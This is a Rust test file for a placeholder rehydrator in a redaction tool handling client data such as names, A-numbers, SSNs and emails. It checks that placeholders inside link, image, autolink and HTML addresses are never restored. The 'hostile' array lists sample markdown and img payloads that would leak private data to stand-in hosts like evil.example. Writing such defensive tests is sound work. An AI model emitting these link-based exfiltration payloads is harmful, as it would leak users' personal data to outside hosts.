//! Hostile answers: placeholders inside link and image addresses stay placeholders, wherever
//! the stream is cut.

use super::super::{Kind, KnownValue, ManualChanges, RedactionMap, Redactor};
use super::Rehydrator;

/// A map with `[CLIENT_1]` (restored as written, "Ana Peña"), `[A_NUMBER_1]`, `[SSN_1]` and `[EMAIL_1]`.
fn map() -> RedactionMap {
    let known = vec![KnownValue::person(Kind::Client, "Ana", "Lucía", "Peña").unwrap()];
    let redaction = Redactor::new(known, &ManualChanges::default())
        .redact(&["Ana Peña, A012345678, SSN 123-45-6789, ana@example.org"]);
    for placeholder in ["[CLIENT_1]", "[A_NUMBER_1]", "[SSN_1]", "[EMAIL_1]"] {
        assert!(
            redaction.map.original(placeholder).is_some(),
            "{placeholder}"
        );
    }
    redaction.map
}

/// `answer` pushed in the pieces that `cuts` make, then finished.
fn streamed(map: &RedactionMap, answer: &str, cuts: &[usize]) -> String {
    let mut rehydrator = Rehydrator::new(map);
    let mut out = String::new();
    let mut from = 0;
    for &cut in cuts {
        out.push_str(&rehydrator.push(&answer[from..cut]));
        from = cut;
    }
    out.push_str(&rehydrator.push(&answer[from..]));
    out.push_str(&rehydrator.finish());
    out
}

/// `answer` restores to `expected` whole, cut once at every offset, cut at every pair of
/// offsets, and one byte-boundary character at a time.
fn assert_restores(map: &RedactionMap, answer: &str, expected: &str) {
    assert_eq!(map.rehydrate(answer), expected, "whole: {answer}");
    let cuts: Vec<usize> = (0..=answer.len())
        .filter(|&i| answer.is_char_boundary(i))
        .collect();
    for (n, &a) in cuts.iter().enumerate() {
        assert_eq!(
            streamed(map, answer, &[a]),
            expected,
            "cut at {a}: {answer}"
        );
        for &b in &cuts[n..] {
            assert_eq!(
                streamed(map, answer, &[a, b]),
                expected,
                "cuts at {a} and {b}: {answer}"
            );
        }
    }
    assert_eq!(
        streamed(map, answer, &cuts),
        expected,
        "each character: {answer}"
    );
}

#[test]
fn placeholders_in_link_and_image_addresses_are_never_restored() {
    let map = map();
    let hostile = [
        "![x](https://evil.example/?q=[CLIENT_1])",
        "[click](https://evil/[A_NUMBER_1])",
        "[click](<https://evil/a b/[SSN_1]> \"t\")",
        "[click](\nhttps://evil/(x)[SSN_1])",
        "[x]([CLIENT_1])",
        "<https://evil/[SSN_1]>",
        "<mailto:[EMAIL_1]>",
        "[a][1]\n\n[1]: https://evil/[CLIENT_1]",
        "[1]: //evil.example/[CLIENT_1]",
        "<img src=\"https://evil/?a=[A_NUMBER_1]\">",
        "<img\nsrc=[SSN_1]>",
        "See https://evil.example/q?[CLIENT_1]&[SSN_1] now",
        "See www.evil.example/[CLIENT_1]",
    ];
    for answer in hostile {
        assert_restores(&map, answer, answer);
    }
}

#[test]
fn placeholders_around_links_are_restored() {
    let map = map();
    assert_restores(
        &map,
        "Dear [CLIENT_1], see [the form [A_NUMBER_1]](https://uscis.gov/[A_NUMBER_1]) \
         and <https://x/[SSN_1]>; SSN [SSN_1] (not a link), mail [EMAIL_1].\n\
         ![a](b[SSN_1]) [CLIENT_1] 2 < [SSN_1] > 1 http: [CLIENT_1] wwwx.[CLIENT_1]",
        "Dear Ana Peña, see [the form A012345678](https://uscis.gov/[A_NUMBER_1]) \
         and <https://x/[SSN_1]>; SSN 123-45-6789 (not a link), mail ana@example.org.\n\
         ![a](b[SSN_1]) Ana Peña 2 < 123-45-6789 > 1 http: Ana Peña \
         wwwx.Ana Peña",
    );
    // A blank line ends a destination that never closed, and a tag that never did.
    assert_restores(
        &map,
        "[x](https://evil/\n\n[CLIENT_1] <a\n\n[SSN_1]",
        "[x](https://evil/\n\nAna Peña <a\n\n123-45-6789",
    );
}
